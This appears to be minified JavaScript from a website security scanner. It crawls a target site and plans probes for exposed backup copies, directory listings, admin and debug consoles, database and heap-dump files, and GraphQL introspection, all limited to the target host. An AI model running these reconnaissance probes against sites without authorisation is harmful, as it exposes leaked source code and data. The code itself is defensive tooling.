this.frontier.markSeen(start.url);
this.pages = [];
this.#keep(start);
this.frontier.addNamed(context.options);
addLinks(this.frontier, start);
}
get isOver() {
return this.#ended !== null;
}
async run() {
while (this.#mayContinue()) await this.#readWave();
}
async continueWith(add) {
if (this.isOver) return;
await add();
await this.run();
}
reach() {
const {folded: folded, others: others} = this.frontier.left;
const counts = [ [ this.#ended ?? "time", others + this.#unsent ], [ "folded", folded ], [ "not_reached", this.#unanswered ] ];
const left = counts.filter(([, count]) => count > 0).map(([reason, count]) => ({
reason: reason,
count: count
}));
const covered = this.pages.length;
return {
known: covered + left.reduce((sum, {count: count}) => sum + count, 0),
covered: covered,
left_out: left
};
}
#mayContinue() {
if (this.#ended !== null || !this.frontier.hasNext()) return false;
const end = this.#end();
if (end === null || this.frontier.isNextNamed && !this.#context.signal.aborted) return true;
this.#ended = end;
return false;
}
#end() {
if (this.#context.signal.aborted || this.#context.room("crawl").milliseconds === 0) return "time";
return this.#requests >= this.#requestsMax || this.#keptBytes >= KEPT_BYTES_MAX ? "requests" : null;
}
async #readWave() {
const wave = this.frontier.take(Math.min(crawl_walk_WAVE, Math.max(1, this.#requestsMax - this.#requests)));
this.#requests += wave.length;
const attempts = await Promise.all(wave.map(({url: url}) => this.#context.fetch({
url: url
})));
for (const [index, place] of wave.entries()) {
const attempt = attempts[index];
if (attempt !== undefined) await this.#read(place, attempt);
}
}
async #read(place, attempt) {
if (!(0, http.m_)(attempt)) {
if (!place.isMention) this.#noteFailure(attempt.failure.code);
return;
}
if (place.isMention) return this.#readMention(place, attempt);
await this.#context.analyse(attempt);
this.frontier.note(place.url, behaviourOf(attempt));
const {status: status} = attempt.response;
if (status >= 300 && status < 400) {
this.redirects.push(attempt);
this.#keptBytes += attempt.response.body.length;
addLocation(this.frontier, attempt, place.from);
} else if (status === 404 || status === 410) {
if (this.deadLinks.length < DEAD_LINKS_MAX) this.deadLinks.push(attempt);
this.frontier.replace(attempt.request.url);
} else this.#addPage(place, attempt);
}
#noteFailure(code) {
if (code !== "budget") this.#unanswered += 1; else {
this.#unsent += 1;
this.#ended = this.#context.signal.aborted ? "time" : "requests";
}
}
async #readMention({url: url, from: from}, exchange) {
if (exchange.response.status >= 300) return;
await this.#context.analyse(exchange);
if ((0, html_document.lM)(exchange) === null) return;
this.mentioned.push(url);
if (!this.#bodies.has(crawl_walk_digestOf(exchange))) this.#keep({
url: url,
exchange: exchange,
discoveredFrom: from
});
}
#addPage({from: from}, exchange) {
const page = {
url: exchange.request.url,
exchange: exchange,
discoveredFrom: from
};
this.#keep(page);
addLinks(this.frontier, page);
}
#keep(page) {
this.pages.push(page);
this.#keptBytes += page.exchange.response.body.length;
this.#bodies.add(crawl_walk_digestOf(page.exchange));
}
}
function crawl_walk_digestOf({response: response}) {
return (0, external_node_crypto_.createHash)("sha256").update(response.body).digest("base64");
}
const fetch_scripts_SCRIPTS_MAX = 30;
const MAPS_MAX = 8;
const fetch_scripts_GUESSES_MAX = 3;
const SCRIPT_BYTES_MAX = 3 * 1024 * 1024;
const MAP_BYTES_MAX = 2 * 1024 * 1024;
const MAP_BYTES_MIN = 256 * 1024;
const MAP_SHARE = 1 / 32;
const fetch_scripts_WAVE = 6;
const fetch_scripts_DEPTH_MAX = 3;
async function fetchScripts(context, pages) {
const urls = new Set;
const want = found => {
for (const url of found) if (url !== null && isOwn(context, url) && urls.size < fetch_scripts_SCRIPTS_MAX) urls.add(url);
};
want(pages.flatMap(page => (0, html_document.lM)(page)?.scripts.map(({url: url}) => url) ?? []));
want(pages.flatMap(loadedBy));
const resources = [];
let requested = 0;
for (let depth = 0; depth < fetch_scripts_DEPTH_MAX && requested < urls.size; depth += 1) {
const wanted = [ ...urls ].slice(requested);
requested = urls.size;
const responses = await fetchInWaves(context, wanted);
const scripts = responses.filter(({response: response}) => response.status === 200);
want(responses.map(({request: request, response: {status: status, headers: headers}}) => status >= 300 && status < 400 ? (0, 
document_base.O)((0, http.wx)(headers, "location") ?? "", request.url) : null));
want(scripts.flatMap(importedBy));
resources.push(...scripts);
}
return {
resources: resources,
sourceMaps: await fetchSourceMaps(context, resources)
};
}
async function fetchInWaves(context, urls) {
const responses = [];
for (let from = 0; from < urls.length; from += fetch_scripts_WAVE) {
const wave = urls.slice(from, from + fetch_scripts_WAVE).map(url => context.fetch({
url: url,
maxBytes: SCRIPT_BYTES_MAX
}));
responses.push(...(await Promise.all(wave)).filter(http.m_));
}
return responses;
}
function importedBy(script) {
if ((0, html_document.lM)(script) !== null) return [];
return scriptImports(script.response.text).map(name => (0, document_base.O)(name, script.request.url));
}
function loadedBy(page) {
const document = (0, html_document.lM)(page);
if (document === null) return [];
const preloaded = document.subresources.filter(({url: url, kind: kind}) => kind === "preload" && /\.m?js(?:\?|$)/.test(url));
const imported = document.scripts.filter(({url: url}) => url === null).flatMap(({text: text}) => scriptImports(text).map(name => (0, 
document_base.O)(name, document.base) ?? [])).flat();
return [ ...preloaded.map(({url: url}) => url), ...imported ];
}
function isOwn(context, url) {
const parsed = new URL(url);
return parsed.origin === context.target.origin && (0, link_policy.af)(parsed, context.options);
}
async function fetchSourceMaps(context, scripts) {
const wanted = [];
let guesses = 0;
for (const script of scripts) {
const address = script.request.url;
const named = sourceMapOf(script);
const isGuess = named === null && looksBundled(script) && guesses < fetch_scripts_GUESSES_MAX;
if (isGuess) guesses += 1;
const mapUrl = (0, document_base.O)(named ?? (isGuess ? `${new URL(address).pathname}.map` : "data:"), address);
if (mapUrl !== null && isOwn(context, mapUrl) && wanted.length < MAPS_MAX) wanted.push({
script: address,
url: mapUrl
});
}
const maxBytes = Math.min(MAP_BYTES_MAX, Math.max(MAP_BYTES_MIN, Math.floor(context.bytesLeft() * MAP_SHARE)));
const attempts = await Promise.all(wanted.map(async ({script: script, url: url}) => ({
script: script,
attempt: await context.fetch({
url: url,
maxBytes: maxBytes
})
})));
return attempts.flatMap(({script: script, attempt: attempt}) => (0, http.m_)(attempt) ? [ {
script: script,
exchange: attempt
} ] : []);
}
function sourceMapOf(script) {
const {headers: headers, text: text} = script.response;
const named = (0, http.wx)(headers, "sourcemap") ?? (0, http.wx)(headers, "x-sourcemap");
if (named !== undefined) return named;
const tail = text.slice(-4096);
const comments = [ ...tail.matchAll(/\/[/*][#@]\s*sourceMappingURL=([^\s*'"]{1,2000})/g) ];
const last = comments.at(-1)?.[1];
return last === undefined || last.startsWith("data:") ? null : last;
}
function looksBundled(script) {
const {text: text} = script.response;
if (text.length < 2e3) return false;
const sample = text.slice(0, 2e4);
return sample.split("\n").length < sample.length / 300;
}
const STYLES_MAX = 4;
const STYLE_BYTES_MAX = 512 * 1024;
async function fetchStyles(context, pages) {
const urls = pages.flatMap(page => (0, html_document.lM)(page)?.stylesheets.map(({url: url}) => url) ?? []);
const isOwn = url => url.origin === context.target.origin && (0, link_policy.af)(url, context.options);
const own = [ ...new Set(urls) ].filter(url => isOwn(new URL(url))).slice(0, STYLES_MAX);
const attempts = await Promise.all(own.map(url => context.fetch({
url: url,
maxBytes: STYLE_BYTES_MAX
})));
return attempts.filter(http.m_);
}
const comment_paths_PATHS_MAX = 20;
const comment_paths_LENGTH_MAX = 4e3;
const TOTAL_MAX = 128 * 1024;
function commentPaths(comments) {
const found = new Set;
let total = 0;
for (const comment of comments) {
const text = comment.slice(0, comment_paths_LENGTH_MAX);
total += text.length;
if (total > TOTAL_MAX || found.size >= comment_paths_PATHS_MAX) break;
if (/^\s*\[if\b|<!\[endif\]/i.test(text)) continue;
for (const match of text.matchAll(/(?:^|[\s"'(=:])(\/(?!\/)[\w~-][\w./~-]{0,150})(?=$|[\s"'?#),;<])/g)) {
const path = match[1]?.replace(/\.$/, "") ?? "";
if ((0, data_names.cP)("machine-folder", path.split("/", 2)[1] ?? "") || found.size >= comment_paths_PATHS_MAX) continue;
found.add(path);
}
}
return [ ...found ];
}
const robots_LENGTH_MAX = 500 * 1024;
const robots_PATHS_MAX = 200;
const SITEMAPS_MAX = 10;
function parseRobots(text) {
const paths = new Set;
const sitemaps = new Set;
for (const line of text.slice(0, robots_LENGTH_MAX).split(/\r\n|\r|\n/)) {
const match = /^\s*([a-z-]{1,20})\s*:\s*([^#\s]{1,2000})/i.exec(line);
if (match === null) continue;
const [, field = "", value = ""] = match;
const name = field.toLowerCase();
if (name === "sitemap" && sitemaps.size < SITEMAPS_MAX) sitemaps.add(value);
if (name !== "allow" && name !== "disallow") continue;
const path = value.endsWith("$") ? value.slice(0, -1) : value;
if (path.startsWith("/") && path !== "/" && !path.includes("*") && paths.size < robots_PATHS_MAX) paths.add(path);
}
return {
paths: [ ...paths ],
sitemaps: [ ...sitemaps ]
};
}
const sitemap_LENGTH_MAX = 1024 * 1024;
const LOCATIONS_MAX = 5e4;
const ENTITIES = {
amp: "&",
lt: "<",
gt: ">",
quot: '"',
apos: "'"
};
function parseSitemap(text) {
const bounded = text.slice(0, sitemap_LENGTH_MAX);
const kind = /<(?:[a-z]+:)?(urlset|sitemapindex)[\s>]/i.exec(bounded.slice(0, 4096))?.[1]?.toLowerCase();
if (kind !== "urlset" && kind !== "sitemapindex") {
const lines = bounded.slice(0, 1e5).split(/\r?\n/).map(line => line.trim());
const urls = lines.filter(line => /^https?:\/\/\S{1,2000}$/.test(line)).slice(0, LOCATIONS_MAX);
return urls.length > 0 && urls.length >= lines.filter(line => line !== "").length ? {
kind: "urlset",
locations: urls
} : {
kind: null,
locations: []
};
}
const locations = new Set;
let from = 0;
while (locations.size < LOCATIONS_MAX) {
const open = bounded.indexOf("<loc>", from);
if (open === -1) break;
const close = bounded.indexOf("</loc>", open);
if (close === -1) break;
const raw = bounded.slice(open + 5, Math.min(close, open + 3e3)).trim();
const value = raw.replace(/^<!\[CDATA\[(.*)\]\]>$/s, "$1").replace(/&(amp|lt|gt|quot|apos);/g, (_whole, name) => ENTITIES[name] ?? "");
if (value.length > 0 && value.length <= 2048) locations.add(value.trim());
from = close + 6;
}
return {
kind: kind,
locations: [ ...locations ]
};
}
const url_sources_SITEMAPS_MAX = 20;
async function addListedPages(context, frontier) {
const {origin: origin, startUrl: startUrl} = context.target;
const text = url_sources_textOf(await context.fetch({
url: "/robots.txt"
}));
const {paths: paths, sitemaps: sitemaps} = text === null ? {
paths: [],
sitemaps: []
} : parseRobots(text);
for (const path of paths) frontier.add((0, document_base.O)(path, origin), `${origin}/robots.txt`);
const beside = new URL("sitemap.xml", startUrl).pathname;
const waiting = [ ...sitemaps, "/sitemap.xml", beside ].map(reference => (0, document_base.O)(reference, origin));
const requested = new Set;
while (waiting.length > 0 && requested.size < url_sources_SITEMAPS_MAX) {
const url = waiting.shift();
if (url == null || requested.has(url) || new URL(url).origin !== origin) continue;
requested.add(url);
waiting.unshift(...(await addSitemap(context, frontier, url)).slice(0, url_sources_SITEMAPS_MAX));
}
}
function url_sources_textOf(attempt) {
if (!(0, http.m_)(attempt) || attempt.response.status !== 200 || (0, html_document.lM)(attempt) !== null) return null;
return attempt.response.text;
}
async function addSitemap(context, frontier, url) {
const attempt = await context.fetch({
url: url
});
if (!(0, http.m_)(attempt) || attempt.response.status !== 200) return [];
const {kind: kind, locations: locations} = parseSitemap(attempt.response.text);
const urls = locations.map(location => (0, document_base.O)(location, context.target.origin));
if (kind === "sitemapindex") return urls;
for (const location of urls) frontier.add(location, url);
return [];
}
async function addDescribed(context, frontier) {
const attempts = await Promise.all(DESCRIPTION_PATHS.map(url => context.fetch({
url: url
})));
for (const attempt of attempts) {
if (!(0, http.m_)(attempt) || attempt.response.status !== 200) continue;
for (const url of jsonLinks(attempt.response.text, attempt.request.url)) frontier.add(url, attempt.request.url);
}
}
function addNamedPaths(frontier, origin, pages, scripts) {
const called = [ ...scripts, ...pages ].flatMap(exchange => endpointsOf(exchange).map(path => ({
path: path,
from: exchange.request.url
})));
const commented = pages.flatMap(exchange => commentPaths((0, html_document.lM)(exchange)?.comments ?? []).map(path => ({
path: path,
from: exchange.request.url
})));
for (const {path: path, from: from} of [ ...called, ...commented ]) {
const url = (0, document_base.O)(path, origin);
if (url !== null && !(0, link_policy.Ch)(new URL(url))) frontier.add(url, from);
}
}
async function gatherCrawl(context) {
const landing = await context.gather("landing");
if (landing.state !== "available") return landing;
const start = landing.value.final;
await context.analyse(start);
if (context.place !== undefined) return {
state: "available",
value: await crawlPlace(context, context.place, start)
};
const startPage = {
url: start.request.url,
exchange: start,
discoveredFrom: null
};
if (context.scanType === "quick") {
return {
state: "available",
value: {
pages: [ startPage ],
resources: [],
parameters: discoverInsertionPoints([ start.request.url ], formsOf([ startPage ]))
}
};
}
const walk = new CrawlWalk(context, startPage);
const {frontier: frontier, pages: pages} = walk;
const exchanges = () => pages.map(({exchange: exchange}) => exchange);
await walk.run();
await walk.continueWith(() => addListedPages(context, frontier));
await walk.continueWith(() => addDescribed(context, frontier));
let scripts = await fetchScripts(context, exchanges());
const before = pages.length;
await walk.continueWith(() => addNamedPaths(frontier, context.target.origin, exchanges(), scripts.resources));
await walk.continueWith(() => frontier.open("sibling"));
let submitted = {
responses: [],
menus: [],
sent: []
};
await walk.continueWith(async () => {
if (context.options.active_post !== true || !context.ownershipProven) return;
submitted = await submitForms(context, pages);
for (const {exchange: exchange, url: url} of submitted.menus) addLocation(frontier, exchange, url);
for (const page of submitted.responses) {
addLocation(frontier, page.exchange, page.url);
addLinks(frontier, page);
}
});
await walk.continueWith(() => addMentioned(context, walk, scripts.resources));
await walk.continueWith(() => frontier.open("rest"));
if (pages.length > before) scripts = await fetchScripts(context, exchanges());
const errorPages = [ ...await fetchErrorPages(context, exchanges(), scripts.resources), ...walk.deadLinks ];
const maps = scripts.sourceMaps.map(({exchange: exchange}) => exchange);
for (const exchange of [ ...scripts.resources, ...maps, ...errorPages ]) await context.analyse(exchange);
const forged = await forgedForms(context, pages);
const urls = [ context.target.startUrl, start.request.url, ...frontier.linksWithQuery() ];
const forms = formsOf([ ...pages, ...submitted.responses ]);
const mayProbe = ({method: method}) => method === "GET" || context.options.active_post === true;
return {
state: "available",
value: {
pages: pages,
resources: scripts.resources,
parameters: discoverInsertionPoints(urls, forms),
fieldsLeftOut: countLeftOut(urls, forms.filter(mayProbe)),
errorPages: errorPages,
redirects: [ ...landing.value.chain.filter(exchange => exchange !== start), ...walk.redirects ],
sourceMaps: scripts.sourceMaps,
mentioned: walk.mentioned,
unread: frontier.waiting,
reach: walk.reach(),
forged: forged,
created: createdBy([ ...submitted.sent, ...forged.flatMap(sentOf) ])
}
};
}
async function addMentioned(context, {frontier: frontier, pages: pages}, scripts) {
const exchanges = pages.map(({exchange: exchange}) => exchange);
for (const source of [ ...exchanges, ...await fetchStyles(context, exchanges), ...scripts ]) for (const url of mentionedUrls(source)) frontier.add(url, source.request.url, "", "mention");
frontier.open("mention");
}
function createdBy(submitted) {
const accepted = submitted.filter(({response: response}) => response.status < 400);
const byPath = Map.groupBy(accepted, ({request: request}) => new URL(request.url).pathname);
return [ ...byPath ].map(([path, sent]) => ({
path: path,
count: sent.length
}));
}
async function fetchErrorPages(context, pages, resources) {
const paths = [ `/${context.token(12)}` ];
const isWerkzeug = ({response: response}) => /^werkzeug\//i.test((0, http.wx)(response.headers, "server") ?? "") || response.text.includes("__debugger__=yes");
if (pages.some(isWerkzeug)) paths.push("/console");
const responses = (await Promise.all(paths.map(url => context.fetch({
url: url
})))).filter(http.m_);
if (![ ...responses, ...pages, ...resources ].some(isOfExpress)) return responses;
const decoded = await context.fetch({
url: `/${context.token(12)}/%c0`
});
return (0, http.m_)(decoded) ? [ ...responses, decoded ] : responses;
}
function isOfExpress({response: {headers: headers, text: text}}) {
return /<pre>Cannot GET \//.test(text) || /^W\/"[0-9a-f]{1,8}-[A-Za-z0-9+/]{27}"$/.test((0, 
http.wx)(headers, "etag") ?? "");
}
var csp_policies = __webpack_require__(84739);
var pages = __webpack_require__(31342);
const gather_second_responses_PAGES_MAX = 3;
const gatherSecondResponses = async context => {
const [landing, crawl] = [ await context.gather("landing"), await context.gather("crawl") ];
if (landing.state !== "available") return landing;
if (crawl.state !== "available") return crawl;
const known = new Set([ (0, csp_policies.dw)(landing.value.final) ]);
const wanted = [];
for (const page of (0, pages.iy)(crawl.value)) {
const shape = (0, csp_policies.dw)(page);
if (shape === null || known.has(shape)) continue;
known.add(shape);
if (wanted.length < gather_second_responses_PAGES_MAX) wanted.push(page);
}
const attempts = await Promise.all(wanted.map(({request: request}) => context.fetch({
url: request.url,
fresh: true
})));
return {
state: "available",
value: {
responses: attempts.filter(http.m_)
}
};
};
const gatherSecurityTxt = async context => {
const request = path => context.fetch({
url: path,
maxBytes: 65536
});
const wellKnown = await request("/.well-known/security.txt");
const exists = (0, http.m_)(wellKnown) && wellKnown.response.status === 200;
const legacy = exists ? null : await request("/security.txt");
for (const attempt of [ wellKnown, legacy ]) if (attempt !== null && !(0, http.m_)(attempt) && attempt.failure.code === "blocked") return {
state: "not_applicable",
reason: `${new URL(attempt.request.url, context.target.origin).pathname} is ${attempt.failure.message}`
};
return {
state: "available",
value: {
wellKnown: wellKnown,
legacy: legacy
}
};
};
const URL_MAX = 16384;
function requestUrl(text, target, options) {
if (text.length > URL_MAX) return {
refusal: `longer than ${URL_MAX} characters`
};
const clean = encodeUnsafe(text.split("#")[0] ?? "");
const absolute = /^(https?):\/\/([^/?#]*)(.*)/is.exec(clean);
const place = absolute === null ? target : absolutePlace(`${absolute[1]}://${absolute[2]}/`, target);
if ("refusal" in place) return place;
const path = rooted(absolute === null ? clean : absolute[3] ?? "");
if (path === null) return {
refusal: "neither an absolute http(s) URL nor a path"
};
const refusal = pathRefusal(path, target, options);
return refusal === null ? {
scheme: place.scheme,
port: place.port,
path: path,
url: place.origin + path
} : {
refusal: refusal
};
}
function absolutePlace(base, target) {
const parsed = URL.parse(base);
if (parsed === null || parsed.username !== "" || parsed.password !== "") return {
refusal: "not a valid URL"
};
const scheme = parsed.protocol === "https:" ? "https" : "http";
const usual = scheme === "https" ? 443 : 80;
const port = parsed.port === "" ? usual : Number(parsed.port);
const host = parsed.hostname.replace(/^\[|\]$/g, "").replace(/\.$/, "");
if (host !== target.host || !request_url_isOpen(scheme, port, target)) {
return {
refusal: "the URL leaves the host and port of the target"
};
}
return {
scheme: scheme,
port: port,
origin: parsed.origin
};
}
function rooted(path) {
if (path.startsWith("/")) return path;
return path === "" || path.startsWith("?") ? `/${path}` : null;
}
function request_url_isOpen(scheme, port, target) {
if (port === target.port) return scheme === target.scheme || scheme === "http";
return scheme === "http" && target.scheme === "https" && target.port === 443 && port === 80;
}
function pathRefusal(path, target, options) {
const {exclude_paths: excluded = [], include_paths: included = []} = options;
if (excluded.length === 0 && included.length === 0) return null;
const forms = pathForms(path);
if (excluded.some(prefix => forms.some(form => form.startsWith(prefix)))) return "excluded by exclude_paths";
const isStart = new URL(path, target.origin).href === target.startUrl;
if (included.length > 0 && !isStart && !included.some(prefix => forms.every(form => form.startsWith(prefix)))) {
return "outside include_paths";
}
return null;
}
function pathForms(path) {
const forms = new Set([ path.replace(/^\/{2,}/, "/") ]);
const normal = URL.parse(path.replace(/^\/{2,}/, "/"), "http://host.invalid");
if (normal !== null) forms.add(normal.pathname + normal.search);
for (const form of [ ...forms ]) {
try {
forms.add(decodeURIComponent(form));
} catch {}
}
return [ ...forms ];
}
function encodeUnsafe(text) {
return text.replace(/[^\x21-\x7e]/gu, character => {
const bytes = Buffer.from(character, "utf8");
return [ ...bytes ].map(byte => `%${byte.toString(16).toUpperCase().padStart(2, "0")}`).join("");
});
}
var exposure_rules = __webpack_require__(91091);
var signatures = __webpack_require__(11324);
function pathsOf(rows) {
return rows.map(({rule: rule, family: family = (0, signatures.Ap)(rule), ...row}) => ({
...row,
family: family,
signature: rule
}));
}
const EXPOSURE_PATHS = pathsOf(exposure_rules.M.everywhere);
const SPRING_PATHS = pathsOf(exposure_rules.M.spring);
const TECHNOLOGY_PATHS = pathsOf(exposure_rules.M.technology);
const LAST_PATHS = pathsOf(exposure_rules.M.last);
const COMMON_FOLDERS = exposure_rules.M.folders;
const EXPOSURE_REQUESTS = {
quick: 42,
full: 80
};
var signature = __webpack_require__(23592);
const LINKED = exposure_rules.M.linked.map(({ending: ending, rule: rule, ...rest}) => ({
ending: new RegExp(ending, "i"),
entry: {
...rest,
family: (0, signatures.Ap)(rule),
signature: rule
}
}));
function linkedFiles(paths) {
const seen = new Set;
return paths.flatMap(path => {
if (seen.has(path) || !path.startsWith("/") || path.length > 500) return [];
seen.add(path);
const linked = LINKED.find(({ending: ending}) => ending.test(path));
return linked === undefined ? [] : [ {
...linked.entry,
path: path
} ];
});
}
function listedPaths(html, folder) {
const base = `http://listing.invalid${folder}`;
return [ ...html.slice(0, 256 * 1024).matchAll(/<a\s[^>]{0,300}?href=["']([^"'?#<>]{1,300})["']/gi) ].flatMap(match => {
const url = URL.parse(match[1] ?? "", base);
return url !== null && url.host === "listing.invalid" && url.pathname.startsWith(folder) ? [ url.pathname ] : [];
});
}
function programCopies(manifest, folder) {
const {main: main, scripts: scripts} = (0, signature.pI)(manifest) ?? {};
const start = (0, shared_records.u4)(scripts) ? scripts["start"] : undefined;
const program = [ typeof start === "string" ? startedBy(start) : undefined, main ].find(name => typeof name === "string" && /^(?:\.\/)?[\w-][\w/-]{0,80}\.[cm]?[jt]s$/.test(name));
if (program === undefined) return [];
const path = folder + program.replace(/^\.\//, "");
return [ ".bak", "~" ].map(ending => ({
family: "backup-source",
path: path + ending,
signature: "script-source"
}));
}
function startedBy(command) {
const words = command.slice(0, 1e3).split(/\s+/);
const node = words.findIndex(word => /\bnode(?:mon)?$/.test(word));
const program = node === -1 ? undefined : words.slice(node + 1).find(word => !word.startsWith("-"));
return /^[\w./-]{1,100}/.exec(program ?? "")?.[0];
}
var proven = __webpack_require__(86837);
var built_in_pattern = __webpack_require__(19748);
var rules_condition = __webpack_require__(6415);
const product_paths_TEXT_MAX = 64 * 1024;
function baseReader({below: below, base: base}) {
if (below === "page") return ({path: path}) => path.slice(0, path.lastIndexOf("/") + 1);
if (base === undefined) return () => "/";
const pattern = (0, built_in_pattern.k)(base, false);
return ({subject: subject}) => {
const path = pattern(subject.text)?.part ?? "/";
return path.endsWith("/") ? path : `${path}/`;
};
}
const WANTED = [ "open-product", "admin-page" ].flatMap(family => (0, signatures.fD)(family).flatMap(({name: name, rule: {when: when, request: request}}) => {
if (when === undefined || request === undefined) return [];
const isSeen = (0, rules_condition.Ke)(when.seen, built_in_pattern.k);
return {
entry: {
family: family,
path: request.path,
signature: name
},
isSeen: isSeen,
baseOf: baseReader(request)
};
}));
function productPaths(target, crawl) {
const exchanges = [ ...crawl?.pages.map(({exchange: exchange}) => exchange) ?? [], ...crawl?.redirects ?? [], ...crawl?.errorPages ?? [] ];
const responses = exchanges.map(({request: request, response: response}) => {
const path = new URL(request.url).pathname;
return {
subject: new rules_condition.B7(response, path, target.port, product_paths_TEXT_MAX),
path: path
};
});
responses.push({
subject: new rules_condition.B7(null, "/", target.port),
path: "/"
});
const paths = WANTED.flatMap(({entry: entry, isSeen: isSeen, baseOf: baseOf}) => {
const seen = responses.find(({subject: subject}) => isSeen(subject, new Map));
return seen === undefined ? [] : {
...entry,
path: baseOf(seen) + entry.path.slice(1)
};
});
return exchanges.some(isSpringError) ? [ ...paths, ...SPRING_PATHS ] : paths;
}
function isSpringError({response: response}) {
if (response.status < 400) return false;
if (response.text.includes("<h1>Whitelabel Error Page</h1>")) return true;
const content = (0, signature.pI)(response);
return (0, shared_records.u4)(content) && [ "timestamp", "status", "error", "path" ].every(name => name in content);
}
const exposure_plan_FOLDERS_MAX = 16;
const COPIES_MAX = 4;
const exposure_plan_LINKED_MAX = 8;
const exposure_plan_NAMES_MAX = 1e4;
const BUILT = /[._-]min\.js$|[._-][\w-]{8,200}\.js$|\/(?:vendor|vendors|node_modules|_next|_nuxt|_app|lib|libs|dist|build|wp-includes|wp-content|assets|chunks)\//i;
function exposurePlan(target, depth, crawl, disallowed) {
const wanted = EXPOSURE_PATHS.filter(entry => depth === "full" || entry.quick === true);
const root = wanted.map(entry => ({
...entry,
path: entry.path.replace("{host}", archiveName(target))
}));
const base = startFolder(target);
const under = base === "/" ? [] : wanted.filter(({below: below}) => below).map(entry => ({
...entry,
path: base + entry.path.slice(1)
}));
const named = depth === "full" ? namedFiles(target, crawl, disallowed) : [];
const copies = depth === "full" ? pageCopies(crawl) : [];
const siteTechnologies = (0, web_technologies.m)(crawl);
const isShown = technology => siteTechnologies.has(technology);
const fitting = depth === "full" ? TECHNOLOGY_PATHS.filter(({technologies: technologies = []}) => technologies.some(isShown)) : [];
const isForeign = ({technologies: technologies, quick: quick}) => quick !== true && technologies !== undefined && siteTechnologies.size > 0 && !technologies.some(isShown);
const isRare = entry => base !== "/" && entry.quick !== true;
const first = root.filter(entry => !isRare(entry) && !isForeign(entry));
const planned = [ ...productPaths(target, crawl), ...named, ...under, ...first, ...fitting, ...copies, ...root.filter(entry => isRare(entry) && !isForeign(entry)) ];
if (depth === "full") planned.push(...exposure_plan_folders(target, crawl, disallowed), ...scriptCopies(crawl));
planned.push(...root.filter(isForeign));
if (depth === "full") planned.push(...LAST_PATHS);
const seen = new Set;
const downloads = publicDownloads(target, crawl, disallowed);
return planned.flatMap(entry => {
const key = `${entry.method ?? "GET"} ${entry.path} ${entry.signature}`;
if (seen.has(key)) return [];
seen.add(key);
return downloads.has(entry.path) ? {
...entry,
isPublicDownload: true
} : entry;
});
}
function publicDownloads(target, crawl, disallowed) {
const pages = (crawl?.pages ?? []).filter(({exchange: exchange}) => (0, directory_listing.E)(exchange.response, new URL(exchange.request.url).pathname) === null);
const links = pages.flatMap(({exchange: exchange}) => (0, html_document.lM)(exchange)?.links ?? []);
const paths = links.slice(0, exposure_plan_NAMES_MAX).flatMap(({url: url, element: element}) => element === "a" ? exposure_plan_pathsOf(target, url) : []);
return new Set(paths.filter(path => !disallowed.some(hidden => path.startsWith(hidden))));
}
function exposure_plan_pathsOf(target, url) {
const parsed = URL.parse(url);
return parsed?.origin === target.origin ? [ parsed.pathname ] : [];
}
function archiveName({host: host, isIpAddress: isIpAddress, registrableDomain: registrableDomain}) {
const label = (registrableDomain ?? host).split(".")[0] ?? "";
return isIpAddress || !/^[a-z0-9-]{1,63}$/.test(label) ? "www" : label;
}
function startFolder(target) {
const {pathname: pathname} = new URL(target.startUrl);
const isPage = /\.[a-z0-9]{1,6}$/i.test(pathname);
return pathname.endsWith("/") ? pathname : isPage ? pathname.slice(0, pathname.lastIndexOf("/") + 1) : `${pathname}/`;
}
function sameSitePaths(crawl) {
const urls = [ ...crawl?.pages.map(({url: url}) => url) ?? [], ...crawl?.resources.map(({request: request}) => request.url) ?? [] ];
return urls.flatMap(url => URL.parse(url)?.pathname ?? []);
}
function referredPaths(target, crawl) {
const documents = (crawl?.pages ?? []).flatMap(({exchange: exchange}) => (0, html_document.lM)(exchange) ?? []);
const referred = documents.flatMap(({subresources: subresources, links: links}) => [ ...subresources.map(({url: url}) => ({
url: url,
text: ""
})), ...links ]);
const paths = referred.slice(0, 2e3).flatMap(({url: url, text: text}) => {
const parsed = URL.parse(url);
return parsed?.origin === target.origin && !(0, link_policy.zN)(parsed, text) ? [ parsed.pathname ] : [];
});
return [ ...new Set(paths) ];
}
function namedFiles(target, crawl, disallowed) {
const links = (crawl?.pages ?? []).flatMap(({exchange: exchange}) => (0, html_document.lM)(exchange)?.links ?? []);
const linked = [ ...new Set(links.map(({url: url}) => url)) ].slice(0, exposure_plan_NAMES_MAX).flatMap(url => exposure_plan_pathsOf(target, url));
const exchanges = [ ...crawl?.resources ?? [], ...crawl?.pages.map(({exchange: exchange}) => exchange) ?? [] ];
const inScripts = exchanges.flatMap(endpointsOf);
const inComments = exchanges.flatMap(exchange => commentPaths((0, html_document.lM)(exchange)?.comments ?? []));
return linkedFiles([ ...linked, ...inScripts, ...inComments, ...disallowed ]).slice(0, exposure_plan_LINKED_MAX);
}
function pageCopies(crawl) {
return copiesOf(crawl, path => (0, data_names.yW)("program-file", path));
}
function scriptCopies(crawl) {
return copiesOf(crawl, path => /\.js$/i.test(path) && !BUILT.test(path));
}
function copiesOf(crawl, isWanted) {
return [ ...new Set(sameSitePaths(crawl)) ].filter(isWanted).slice(0, COPIES_MAX / 2).flatMap(path => [ `${path}.bak`, `${path}~` ]).map(path => ({
family: "backup-source",
path: path,
signature: "script-source"
}));
}
function exposure_plan_folders(target, crawl, disallowed) {
const crawled = sameSitePaths(crawl).flatMap(foldersOf);
const referred = referredPaths(target, crawl).flatMap(foldersOf);
const named = disallowed.filter(path => /^\/[\w./%-]{0,200}\/$/.test(path) && !path.includes("..")).flatMap(foldersOf);
const base = startFolder(target);
const common = base === "/" ? COMMON_FOLDERS : COMMON_FOLDERS.slice(0, 2).map(path => base + path.slice(1));
return [ ...new Set([ ...crawled, ...named, ...common.slice(0, 2), ...referred, ...common ]) ].filter(path => path !== "/").slice(0, exposure_plan_FOLDERS_MAX).map(path => ({
family: "directory-listing",
path: path,
signature: "listing"
}));
}
function foldersOf(path) {
const parts = path.split("/").slice(1, -1);
return parts.slice(0, 4).map((_, index) => `/${parts.slice(0, index + 1).join("/")}/`);
}
const GRAPHQL_INTROSPECTION = JSON.stringify({
query: "{__schema{queryType{name} types{name}}}"
});
const BYTES_TEXT = 256 * 1024;
const BYTES_BINARY = 64 * 1024;
const BINARY = new Set([ "archive", "sqlite", "svn-database", "sql-gzip", "heap-dump", "ds-store", "vim-swap", "sql" ]);
const gather_exposure_CONCURRENCY = 8;
const FOLLOWED_MAX = 8;
const SIBLINGS_MAX = {
quick: 10,
full: 11
};
const gatherExposure = async context => {
const depth = context.scanType === "quick" ? "quick" : "full";
const crawl = await context.gather("surface");
